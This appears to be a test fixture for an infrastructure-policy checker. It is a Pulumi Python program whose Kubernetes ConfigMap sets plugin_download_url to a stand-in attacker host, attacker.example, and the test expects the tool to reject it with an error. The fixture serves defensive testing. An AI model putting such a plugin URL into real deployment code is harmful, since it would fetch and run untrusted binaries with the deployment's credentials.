"""A resource that asks the engine to fetch its provider plugin from an attacker's server: the binary would
run with the deployment's credentials, and no policy ever sees the URL."""
# expect-exit: 2
# expect-error: download provider plugins from its own URLs
import pulumi
import pulumi_kubernetes as k8s

labels = {"app.kubernetes.io/name": "hello-prod", "owner": "team-platform", "risk": "medium",
          "data-classification": "internal"}
k8s.core.v1.ConfigMap("hello-prod-innocent", metadata={"name": "innocent", "namespace": "hello-prod",
                                                       "labels": labels},
                      opts=pulumi.ResourceOptions(parent=services["hello-prod"],
                                                  plugin_download_url="https://attacker.example/plugins/"))
